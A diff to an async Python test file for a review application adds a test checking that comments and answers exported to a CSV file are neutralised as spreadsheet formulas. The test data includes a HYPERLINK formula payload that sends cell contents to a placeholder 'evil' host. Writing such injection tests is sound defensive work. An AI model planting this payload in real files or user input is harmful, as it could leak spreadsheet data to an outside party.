@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import re
 from collections.abc import AsyncIterator
 
@@ -85,6 +87,19 @@ async def test_a_review_is_drawn_marked_sent_and_answered_once(desk: tuple[Stage
     assert f"{number},Olga,Vera,random" in browser.page
     await olga.writes("/reviews")
     assert text_of("reviews-own") in words(await olga.last())
+
+
+async def test_no_part_of_an_answer_to_a_review_is_a_formula_in_its_file(desk: tuple[Stage, Browser]) -> None:
+    stage, browser = desk
+    olga = stage.people["Olga"]
+    _, at = await _drawn(stage, browser)
+    await browser.sends(at, **_marks(browser, "met", "met"), comment="＝1+1")
+    await stage.settle()
+    await olga.presses(f"review:{at.removeprefix('/reviews/')}")
+    await olga.writes('ok;=HYPERLINK("http://evil/?"&A1;"x")')
+    await browser.opens("/reviews/results.csv")
+    (line,) = csv.DictReader(io.StringIO(browser.page.removeprefix("\ufeff")))
+    assert (line["comment"], line["answer"]) == ("'＝1+1", """ok;'=HYPERLINK("http://evil/?"&A1;"x")""")
 
 
 async def test_scores_are_figures_by_agent_and_criterion(desk: tuple[Stage, Browser]) -> None:
